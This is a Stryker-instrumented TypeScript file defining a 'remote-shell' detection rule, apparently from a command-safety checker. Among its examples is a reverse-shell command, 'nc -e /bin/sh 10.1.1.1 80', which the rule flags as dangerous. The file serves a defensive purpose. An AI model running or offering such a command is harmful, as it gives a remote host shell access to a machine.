// @ts-nocheck
function stryNS_9fa48() {
  var g = typeof globalThis === 'object' && globalThis && globalThis.Math === Math && globalThis || new Function("return this")();
  var ns = g.__stryker__ || (g.__stryker__ = {});
  if (ns.activeMutant === undefined && g.process && g.process.env && g.process.env.__STRYKER_ACTIVE_MUTANT__) {
    ns.activeMutant = g.process.env.__STRYKER_ACTIVE_MUTANT__;
  }
  function retrieveNS() {
    return ns;
  }
  stryNS_9fa48 = retrieveNS;
  return retrieveNS();
}
stryNS_9fa48();
function stryCov_9fa48() {
  var ns = stryNS_9fa48();
  var cov = ns.mutantCoverage || (ns.mutantCoverage = {
    static: {},
    perTest: {}
  });
  function cover() {
    var c = cov.static;
    if (ns.currentTestId) {
      c = cov.perTest[ns.currentTestId] = cov.perTest[ns.currentTestId] || {};
    }
    var a = arguments;
    for (var i = 0; i < a.length; i++) {
      c[a[i]] = (c[a[i]] || 0) + 1;
    }
  }
  stryCov_9fa48 = cover;
  cover.apply(null, arguments);
}
function stryMutAct_9fa48(id) {
  var ns = stryNS_9fa48();
  function isActive(id) {
    if (ns.activeMutant === id) {
      if (ns.hitCount !== void 0 && ++ns.hitCount > ns.hitLimit) {
        throw new Error('Stryker: Hit count limit reached (' + ns.hitCount + ')');
      }
      return true;
    }
    return false;
  }
  stryMutAct_9fa48 = isActive;
  return isActive(id);
}
import { type Rule, tagged } from '../rule.ts';
export const remoteShell: Rule = stryMutAct_9fa48("16189") ? {} : (stryCov_9fa48("16189"), {
  name: stryMutAct_9fa48("16190") ? "" : (stryCov_9fa48("16190"), 'remote-shell'),
  level: stryMutAct_9fa48("16191") ? "" : (stryCov_9fa48("16191"), 'dangerous'),
  reason: stryMutAct_9fa48("16192") ? "" : (stryCov_9fa48("16192"), 'it hands a shell to another machine'),
  match: tagged(stryMutAct_9fa48("16193") ? "" : (stryCov_9fa48("16193"), 'remote-shell')),
  examples: stryMutAct_9fa48("16194") ? {} : (stryCov_9fa48("16194"), {
    match: stryMutAct_9fa48("16195") ? [] : (stryCov_9fa48("16195"), [stryMutAct_9fa48("16196") ? "" : (stryCov_9fa48("16196"), 'nc -e /bin/sh 10.1.1.1 80')]),
    notMatch: stryMutAct_9fa48("16197") ? [] : (stryCov_9fa48("16197"), [stryMutAct_9fa48("16198") ? "" : (stryCov_9fa48("16198"), 'nc -z 10.1.1.1 80')])
  })
});